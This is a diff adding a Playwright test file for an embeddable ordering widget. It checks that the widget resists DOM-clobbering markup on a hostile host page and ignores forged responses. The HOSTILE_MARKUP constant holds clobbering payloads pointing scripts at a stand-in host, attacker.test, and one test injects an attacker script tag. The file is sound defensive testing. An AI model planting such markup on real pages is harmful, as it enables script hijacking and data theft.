@@ -1,0 +1,108 @@
+import type { Page } from '@playwright/test';
+import type { OrderAppElement } from '../../../elements/loader/order-app-element.ts';
+import { uniqueName } from '../testing/customer.ts';
+import { CROISSANT, createEmbeddedCustomer, getElement, TALL_VIEWPORT } from '../testing/hosts/embedded.ts';
+import { expect, test } from '../testing/test.ts';
+
+const backend = `http://127.0.0.1:${process.env.E2E_PORT}`;
+const ATTACKER = 'http://attacker.test';
+
+test.use({ viewport: TALL_VIEWPORT });
+
+const DOCUMENT_PROPERTIES = [
+  ...['currentScript', 'baseURI', 'URL', 'documentURI', 'body', 'head', 'documentElement', 'cookie'],
+  ...['hidden', 'referrer', 'title', 'visibilityState', 'readyState', 'scripts', 'activeElement'],
+];
+/** Missing in some browsers, where an element of this name becomes a global. */
+const GLOBALS = ['scheduler', 'requestIdleCallback', 'cancelIdleCallback', 'trustedTypes', 'Notification'];
+const FORGED_RESPONSE = JSON.stringify({
+  status: 200,
+  body: { restaurant: { name: 'Forged', locales: ['en'] } },
+});
+
+/** Markup without a script that may run, as somebody could write it in a comment on the host page. */
+const HOSTILE_MARKUP = [
+  ...DOCUMENT_PROPERTIES.map(
+    (name) => `<img name="${name}" src="${ATTACKER}/${name}/order-app.js" data-order-app="hosted">`,
+  ),
+  ...GLOBALS.map((name) => `<form id="${name}"><input name="yield"><input name="createPolicy"></form>`),
+  `<form id="order-app:demo-cafe"><input name="matches"><input name="remove"><input name="textContent"></form>`,
+  `<div data-order-app="hosted"><script type="application/json" id="order-app:demo-cafe">${FORGED_RESPONSE}</script></div>`,
+  `<script type="application/json" id="order-app:demo-cafe">${FORGED_RESPONSE}</script>`,
+].join('\n');
+
+interface HostilePage {
+  readonly origin: string;
+  /** Attributes of the loader's tag. */
+  readonly script?: string;
+  readonly before?: string;
+  readonly policy?: string;
+}
+
+/** Opens a host page whose hostile markup is complete when the loader runs. Returns the URLs requested from the attacker. */
+async function openHostilePage(
+  page: Page,
+  { origin, script = '', before = '', policy }: HostilePage,
+): Promise<string[]> {
+  const stolen: string[] = [];
+  await page.route(`${ATTACKER}/**`, (route) => {
+    if (route.request().resourceType() !== 'image') stolen.push(route.request().url());
+    return route.abort();
+  });
+  await page.route(`${origin}/hostile.html`, (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      ...(policy && { headers: { 'content-security-policy': policy } }),
+      body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title>${before}</head>
+<body>${HOSTILE_MARKUP}<order-app reference-id="demo-cafe" type="pickup"></order-app>
+<script src="${backend}/order-app.js" ${script}></script></body></html>`,
+    }),
+  );
+  await page.goto(`${origin}/hostile.html`);
+  return stolen;
+}
+
+test('takes an order on a page whose elements are named like properties of the document', async ({
+  page,
+  operator,
+}) => {
+  const stolen = await openHostilePage(page, { origin: 'http://shop.test' });
+  expect(
+    await page.evaluate(() => Reflect.get(document, 'currentScript') instanceof HTMLImageElement),
+    'the page hides the property',
+  ).toBe(true);
+  const customer = createEmbeddedCustomer(page);
+  const person = uniqueName();
+  await getElement(page).evaluate((app: OrderAppElement) =>
+    app.addToCart({ itemId: 'butter-croissant', count: 5 }),
+  );
+  await customer.openCart();
+  await customer.goToCheckout();
+  await customer.fillDetails({ name: person, phone: '50012345' });
+  await customer.placeOrder.click();
+  await expect(customer.currentStep).toBeVisible();
+  expect(await operator.listOrderNumbers(person)).toHaveLength(1);
+  expect(stolen).toEqual([]);
+});
+
+test('ignores a forged response in a page of the API’s own origin that is no hosted page', async ({
+  page,
+}) => {
+  const stolen = await openHostilePage(page, { origin: backend });
+  await expect(getElement(page).getByRole('heading', { name: 'Forged' })).toHaveCount(0);
+  await createEmbeddedCustomer(page).addDirectly(CROISSANT);
+  expect(stolen).toEqual([]);
+});
+
+test('loads as a module from its own address and not from a script tag that the policy blocks', async ({
+  page,
+}) => {
+  const stolen = await openHostilePage(page, {
+    origin: 'http://shop.test',
+    policy: "script-src 'nonce-r4nd0m'",
+    before: `<script src="${ATTACKER}/order-app.js"></script>`,
+    script: 'type="module" nonce="r4nd0m"',
+  });
+  await createEmbeddedCustomer(page).addDirectly(CROISSANT);
+  expect(stolen).toEqual([]);
+});
